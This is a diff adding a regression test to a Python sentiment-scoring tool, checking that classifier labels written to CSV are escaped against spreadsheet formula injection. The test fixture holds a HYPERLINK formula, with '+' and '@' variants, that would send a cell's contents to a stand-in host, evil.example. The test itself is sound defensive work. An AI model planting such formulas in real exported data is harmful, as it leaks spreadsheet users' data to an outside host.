@@ -12,6 +12,7 @@ from sentimotion.scoring import score_file as run
 from sentimotion.tables import chunks as table
 from sentimotion.tables.columns import added_columns
 from tests.checkpoints import SENTENCES, change_tensors, copied
+from tests.sentimotion.scoring.classifiers import write_classifier
 
 ADDED = [column.name for column in added_columns()]
 # One of the sentences is in Latin letters.
@@ -111,6 +112,19 @@ def test_score_with_a_second_classifier_and_a_prefix(
     assert list(row) == ["id", "text", *names]
     assert row["m_second_label"] in ("decent", "hate", "abuse")
     assert 0 < row["m_second_score"] <= 1
+
+
+def test_a_second_classifiers_label_is_no_formula_of_a_spreadsheet(source, tmp_path, bert_folder):
+    """Whoever made that checkpoint named its labels."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
+    folder = write_classifier(tmp_path / "second", (formula, f"+{formula}", f"@{formula}"))
+    output = tmp_path / "out.csv"
+    arguments = ["--model", str(bert_folder), "--second", str(folder)]
+    assert main(["score", str(source), "-o", str(output), *arguments]) == 0
+    with output.open(encoding="utf-8-sig", newline="") as file:
+        labels = {row["second_label"] for row in csv.DictReader(file)}
+    assert labels - {""}
+    assert labels <= {"", f"'{formula}", f"'+{formula}", f"'@{formula}"}
 
 
 @pytest.mark.parametrize(
